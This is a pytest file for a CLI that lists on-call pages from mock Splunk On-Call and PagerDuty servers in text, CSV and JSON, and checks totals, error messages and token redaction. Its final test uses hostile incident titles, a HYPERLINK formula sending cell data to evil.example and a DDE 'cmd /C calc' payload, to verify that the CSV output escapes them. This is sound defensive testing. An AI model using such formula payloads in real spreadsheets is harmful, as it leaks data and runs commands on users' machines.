"""`postmortem pages`: every page in a period from local Splunk On-Call and
PagerDuty servers (tests/services.py), in text, CSV and JSON, with totals;
the rows from the events (postmortem/database/pages.py)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest

from tests.events import page_event

from postmortem.core.errors import InputError
from postmortem.core.model import Person, Window, utc
from postmortem.database.pages import page_rows, period
from tests.services import FakeServer, pagerduty_app, splunk_app
from tests.test_source_pagerduty import ANA, INCIDENTS as PD_INCIDENTS, log_entries
from tests.test_source_splunk_oncall import API_ID, API_KEY, INCIDENTS as VO_INCIDENTS, ONCALL

PD_TOKEN = "pd-pages-NEVER-PRINT-ME"


@pytest.fixture
def services(monkeypatch):
    monkeypatch.setenv("VO_ID", API_ID)
    monkeypatch.setenv("VO_KEY", API_KEY)
    monkeypatch.setenv("PD_TOKEN", PD_TOKEN)
    with FakeServer(splunk_app(VO_INCIDENTS, ONCALL, api_id=API_ID, api_key=API_KEY, page_size=2)) as vo, \
            FakeServer(pagerduty_app(PD_INCIDENTS, log_entries(), {ANA["id"]: ANA}, token=PD_TOKEN)) as pd:
        yield vo, pd


def options(vo, pd):
    return ["--splunk-oncall", vo.url, "--org", "wikimedia", "--api-id-env", "VO_ID", "--api-key-env", "VO_KEY",
            "--pagerduty", pd.url, "--token-env", "PD_TOKEN"]


ROSTER = '''
[people.akowalski]
timezone = "Europe/Warsaw"

[people.jdoe]
timezone = "America/New_York"

[people.ana]
timezone = "Europe/Warsaw"
hours = "07:00-15:00"
aliases = ["ana.kowalski@example.org"]   # PagerDuty's user, by e-mail
'''


def paging_sources(vo, pd) -> str:
    """The [[source]] tables of the local Splunk On-Call and PagerDuty."""
    return (f'[[source]]\ntype = "splunk-oncall"\nurl = "{vo.url}"\norg = "wikimedia"\n'
            f'api_id_env = "VO_ID"\napi_key_env = "VO_KEY"\n\n'
            f'[[source]]\ntype = "pagerduty"\nurl = "{pd.url}"\ntoken_env = "PD_TOKEN"\n')


def sources_file(tmp_path, vo, pd, roster=ROSTER):
    path = tmp_path / "paging.toml"
    path.write_text(paging_sources(vo, pd) + roster, encoding="utf-8")
    return path


def test_every_page_of_the_day_with_totals(run_cli, services, tmp_path):
    vo, pd = services
    code, out, err = run_cli("pages", "--since", "2024-03-05", "--until", "2024-03-05",
                             "--sources", sources_file(tmp_path, vo, pd))
    assert (code, err) == (0, "")
    assert out.splitlines() == [
        "2024-03-05 06:58 UTC  Splunk On-Call incident 4821: MediaWiki appserver p75 latency high",
        "  paged akowalski, jdoe (SRE Core): OUTSIDE working hours: akowalski, jdoe",
        "  acknowledged after 6 min by akowalski; https://portal.victorops.com/ui/wikimedia/incident/4821",
        "2024-03-05 06:58 UTC  PagerDuty incident #1402: Checkout API 5xx rate above 5%",
        "  paged ana (Payments): all in working hours",
        "  acknowledged after 6 min by ana; https://acme-sre.pagerduty.com/incidents/Q1A2B3C4D5E6F7",
        "2024-03-05 07:12 UTC  PagerDuty incident #1403: Checkout latency p99 above 2s",
        "  paged Payments (whom: not recorded): working hours unknown",
        "  not acknowledged; https://acme-sre.pagerduty.com/incidents/Q9Z8Y7X6W5V4U3",
        "2024-03-05 09:01 UTC  PagerDuty incident #1404: Payment webhook queue backlog",
        "  paged Payments (whom: not recorded): working hours unknown",
        "  not acknowledged; https://acme-sre.pagerduty.com/incidents/QK1L2M3N4O5P6Q",
        "2024-03-05 09:12 UTC  Splunk On-Call incident 4823: MariaDB replica lag on db1150",
        "  paged mbauer (Data Persistence): working hours unknown for mbauer",
        "  not acknowledged; https://portal.victorops.com/ui/wikimedia/incident/4823",
        "5 pages from 2024-03-05 00:00 to 2024-03-06 00:00 UTC: 1 outside working hours, 1 in working hours, "
        "3 unknown",
        "4 people paged; 2 of them outside their working hours (2 times)",
        "2 acknowledged, median 6.7 min to acknowledge"]
    assert API_KEY not in out and PD_TOKEN not in out


def test_json_and_csv_hold_the_same_rows(run_cli, services, tmp_path):
    vo, pd = services
    args = ("pages", "--since", "2024-03-05 06:00", "--until", "2024-03-05 08:00", *options(vo, pd))
    code, out, _ = run_cli(*args, "--format", "json")
    data = json.loads(out)
    assert code == 0 and (data["since"], data["until"]) == ("2024-03-05T06:00:00Z", "2024-03-05T08:00:00Z")
    assert [(p["source"], p["incident"]) for p in data["pages"]] == [("splunk-oncall", "4821"), ("pagerduty", "#1402"),
                                                                      ("pagerduty", "#1403")]
    first = data["pages"][0]
    assert first["paged"] == ["akowalski", "jdoe"] and first["in_hours"] is None  # no roster on the command line
    assert first["hours_unknown"] == ["akowalski", "jdoe"] and first["minutes_to_acknowledge"] == 6.7
    assert data["pages"][1]["outside_hours"] == ["Ana Kowalski"]  # 07:58 in Warsaw, PagerDuty's zone for her
    assert data["totals"] == {"pages": 3, "outside_hours": 1, "in_hours": 0, "hours_unknown": 2, "people_paged": 3,
                              "people_paged_outside_hours": 1, "times_someone_was_paged_outside_hours": 1,
                              "manual": 0, "acknowledged": 2, "median_minutes_to_acknowledge": 6.7}
    code, out, _ = run_cli(*args, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["incident"] for r in rows] == ["4821", "#1402", "#1403"]
    assert rows[0]["paged"] == "akowalski, jdoe" and rows[0]["in_hours"] == "" and rows[1]["in_hours"] == "false"
    assert rows[1]["acknowledged_by"] == "Ana Kowalski" and rows[2]["minutes_to_acknowledge"] == ""
    assert API_KEY not in out and API_ID not in out and PD_TOKEN not in out


def test_an_acknowledgement_after_the_period_still_counts(run_cli, services):
    vo, pd = services
    code, out, _ = run_cli("pages", "--since", "2024-03-05 06:00", "--until", "2024-03-05 07:00",
                           "--pagerduty", pd.url, "--token-env", "PD_TOKEN", "--format", "json")
    (page,) = json.loads(out)["pages"]
    assert page["acknowledged_at"] == "2024-03-05T07:04:55Z"


@pytest.mark.parametrize("args, message", [
    pytest.param([], "give a paging service: --splunk-oncall/--pagerduty options or --sources FILE", id="no-source"),
    pytest.param(["--token-env", "X"], "--token-env: --token-env goes with --pagerduty", id="flag-without-service"),
    pytest.param(["--org", "x"], "--org, --api-id-env, --api-key-env, --team and --routing-key go with "
                                 "--splunk-oncall", id="splunk-flag-alone"),
    pytest.param(["--splunk-oncall", "--api-id-env", "A", "--api-key-env", "B"],
                 "--org: source[0] (splunk-oncall) needs --org", id="missing-org"),
    pytest.param(["--pagerduty", "http://pagerduty.example.org", "--token-env", "PD_TOKEN"],
                 "http://pagerduty.example.org: refusing to send the PD_TOKEN token over plain http (use https)",
                 id="token-over-plain-http"),
])
def test_bad_options_are_one_line_and_exit_2(run_cli, monkeypatch, args, message):
    monkeypatch.setenv("PD_TOKEN", PD_TOKEN)
    code, out, err = run_cli("pages", "--since", "2024-03-05", "--until", "2024-03-06", *args)
    assert (code, out, err) == (2, "", f"postmortem: error: {message}\n")


def test_a_sources_file_may_hold_only_paging_services_and_people(run_cli, tmp_path):
    path = tmp_path / "paging.toml"
    path.write_text('[[source]]\ntype = "sal"\n', encoding="utf-8")
    code, _, err = run_cli("pages", "--since", "2024-03-05", "--until", "2024-03-06", "--sources", path)
    assert code == 2 and err == (f"postmortem: error: {path}: type: source[0] (sal) is not a paging service "
                                 "(pages reads splunk-oncall and pagerduty)\n")
    path.write_text('[[source]]\ntype = "pagerduty"\ntoken_env = "X"\n\n[incident]\nid = "x"\n', encoding="utf-8")
    code, _, err = run_cli("pages", "--since", "2024-03-05", "--until", "2024-03-06", "--sources", path)
    assert code == 2 and err == f"postmortem: error: {path}:5: [incident]: unknown table (expected one of people, source)\n"


def test_a_failing_service_fails_the_command(run_cli, services):
    vo, pd = services
    code, out, err = run_cli("pages", "--since", "2024-03-05", "--until", "2024-03-06", "--splunk-oncall", vo.url,
                             "--org", "wikimedia", "--api-id-env", "VO_ID", "--api-key-env", "PD_TOKEN")
    assert code == 1 and out == "" and "HTTP 403 Forbidden" in err and PD_TOKEN not in err and API_KEY not in err


@pytest.mark.parametrize("since, until, window", [
    ("2024-03-01", "2024-03-31", Window(utc(2024, 3, 1), utc(2024, 4, 1))),
    ("2024-03-01 06:00", "2024-03-01 18:30", Window(utc(2024, 3, 1, 6), utc(2024, 3, 1, 18, 30))),
    ("2024-03-01T00:00+02:00", "2024-03-02", Window(utc(2024, 2, 29, 22), utc(2024, 3, 3))),
])
def test_the_period(since, until, window):
    assert period(since, until) == window


def test_a_period_that_ends_before_it_starts_is_refused():
    with pytest.raises(InputError, match="is not after"):
        period("2024-03-02", "2024-03-01 12:00")


def ev(minute, phase, incident="1", source="splunk-oncall", actor=None, paged=(), manual=False):
    return page_event(utc(2024, 3, 5, 3) + dt.timedelta(minutes=minute), phase, incident, source=source,
                      actor=actor, paged=(paged,) if paged else (), manual=manual)


def test_rows_match_each_page_with_its_own_first_acknowledgement():
    events = [ev(0, "triggered", paged="ana"), ev(1, "triggered", "2", paged="ana", manual=True),
              ev(3, "acknowledged", "2", actor="ana"), ev(4, "acknowledged", actor="ana"),
              ev(5, "acknowledged", actor="bo"), ev(6, "acknowledged", source="pagerduty", actor="cy")]
    rows = page_rows(events, {"ana": Person("ana", "Asia/Tokyo")})
    assert [(r.incident, r.to_acknowledge, r.acknowledged.actor, r.manual, r.in_hours) for r in rows] == [
        ("1", dt.timedelta(minutes=4), "ana", False, True), ("2", dt.timedelta(minutes=2), "ana", True, True)]
    assert page_rows(events, {}, Window(utc(2024, 3, 5, 3, 1), utc(2024, 3, 5, 4)))[0].incident == "2"


def test_csv_cells_a_spreadsheet_would_run_are_text(run_cli, monkeypatch, tmp_path):
    """An incident's title is an alert's summary, anyone's to write: in the CSV
    it is text, never a formula (a leading '); the JSON keeps it as it is."""
    hostile = [{**incident, "title": title} for incident, title in zip(
        PD_INCIDENTS, ['=HYPERLINK("https://evil.example/?"&A1,"click")', "@SUM(1,1)*cmd|' /C calc'!A0",
                       "-2+3", "+1"])]
    monkeypatch.setenv("PD_TOKEN", PD_TOKEN)
    with FakeServer(pagerduty_app(hostile, log_entries(), {ANA["id"]: ANA}, token=PD_TOKEN)) as pd:
        args = ("pages", "--since", "2024-03-05", "--until", "2024-03-05", "--pagerduty", pd.url,
                "--token-env", "PD_TOKEN")
        code, out, _ = run_cli(*args, "--format", "csv")
        rows = list(csv.DictReader(io.StringIO(out)))
        assert code == 0 and [r["what"] for r in rows] == ["'" + i["title"] for i in hostile[:len(rows)]]
        assert rows[0]["minutes_to_acknowledge"] == "6.7"
        code, out, _ = run_cli(*args, "--format", "json")
        assert [p["what"] for p in json.loads(out)["pages"]] == [i["title"] for i in hostile[:len(rows)]]
